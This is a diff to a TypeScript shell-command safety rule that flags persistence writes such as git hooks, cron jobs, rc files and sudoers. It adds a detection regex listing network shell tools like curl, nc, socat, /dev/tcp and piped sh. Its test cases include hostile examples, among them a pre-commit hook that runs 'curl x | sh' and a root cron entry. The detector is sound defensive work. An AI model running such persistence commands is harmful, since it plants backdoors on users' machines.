@@ -4,16 +4,32 @@ import type { Invocation } from "../resolve.js";
 import type { CommandRule } from "../rule.js";
 import { operands } from "./facts.js";
 
-const CRITICAL_KINDS = new Set(["authorized_keys", "sudoers", "account database", "system shell startup"]);
+const CRITICAL_KINDS = new Set(["authorized_keys", "sudoers", "account database"]);
+/** Code that fetches, decodes or connects: what a backdoor line in an rc file or cron job does. */
+const RISKY_CONTENT = /\b(?:curl|wget|nc|ncat|netcat|socat|telnet|base64|xxd|eval|python[0-9.]*\s+-c|perl\s+-e|ruby\s+-e|php\s+-r|bash\s+-i|sh\s+-i|mkfifo|nohup)\b|\/dev\/(?:tcp|udp)\/|\|\s*(?:ba|z|da)?sh\b|\$\(|`/;
+/** Lines people add to their shell start-up every day. */
+const ROUTINE_CONTENT = /^\s*(?:export\s+[A-Za-z_][A-Za-z0-9_]*=|alias\s|source\s|\.\s|[A-Z_][A-Z0-9_]*=|set\s+-o\s|shopt\s|umask\s|ulimit\s|#)/;
+
+/** What an `echo`/`printf` writes; undefined when the data comes from elsewhere (cat, cp, a pipe). */
+function echoedContent(inv: Invocation): string | undefined {
+  const name = inv.name.toLowerCase();
+  if (name === "echo" || name === "printf") return inv.args.filter((a) => !/^-[neE]+$/.test(a)).join(" ");
+  return undefined;
+}
+
+const WRITERS = new Set(["tee", "cp", "mv", "install", "ln", "rsync", "dd", "sed", "perl"]);
+const WRITER_VALUE_OPTIONS = new Set(["-m", "-o", "-g", "--mode", "-t"]);
+const NO_FILES: string[] = [];
 
 /** Files this invocation writes: redirections, tee, cp/mv/install/ln destinations, sed -i. */
 export function writtenFiles(inv: Invocation): string[] {
+  const name = inv.name.toLowerCase();
+  if (inv.redirects.length === 0 && !WRITERS.has(name)) return NO_FILES;
   const out: string[] = [];
   for (const r of inv.redirects) {
     if ((r.op === ">" || r.op === ">>" || r.op === ">|" || r.op === "&>" || r.op === "&>>") && r.target) out.push(r.target.value);
   }
-  const name = inv.name.toLowerCase();
-  const ops = operands(inv.args, new Set(["-m", "-o", "-g", "--mode", "-t"]));
+  const ops = operands(inv.args, WRITER_VALUE_OPTIONS);
   if (name === "tee") out.push(...ops);
   if ((name === "cp" || name === "mv" || name === "install" || name === "ln" || name === "rsync" || name === "dd") && ops.length >= 2) out.push(ops[ops.length - 1] as string);
   if (name === "dd") for (const a of inv.args) if (a.startsWith("of=")) out.push(a.slice(3));
@@ -28,12 +44,15 @@ export const persistenceRules: CommandRule[] = [
     severity: "high",
     reason: "semantic:destructive_command",
     check: (inv) => {
-      let found: boolean | "critical" = false;
+      let found: boolean | "critical" | "medium" = false;
       for (const file of writtenFiles(inv)) {
         const kind = persistenceTarget(file);
         if (!kind) continue;
         if (CRITICAL_KINDS.has(kind)) return "critical";
-        found = true;
+        const content = echoedContent(inv) ?? inv.redirects.find((r) => r.heredoc !== undefined)?.heredoc;
+        if (content === undefined) found = found || "medium";
+        else if (RISKY_CONTENT.test(content)) return true;
+        else if (!content.split("\n").every((line) => line.trim() === "" || ROUTINE_CONTENT.test(line))) found = found || "medium";
       }
       return found;
     },
@@ -46,7 +65,14 @@ export const persistenceRules: CommandRule[] = [
         "cat > .git/hooks/pre-commit <<EOF\ncurl x | sh\nEOF",
         "echo '* * * * * root /tmp/x' > /etc/cron.d/x",
       ],
-      negative: ["cat ~/.bashrc", "echo 'export PATH=$PATH:~/bin' > ./env.sh", "cp config.yml ~/.config/app/config.yml", "tee output.log"],
+      negative: [
+        "cat ~/.bashrc",
+        "echo 'export PATH=$PATH:~/bin' > ./env.sh",
+        "cp config.yml ~/.config/app/config.yml",
+        "tee output.log",
+        "echo 'export PATH=$PATH:$HOME/.local/bin' >> ~/.bashrc",
+        "echo \"alias ll='ls -la'\" >> ~/.zshrc",
+      ],
     },
   },
   {
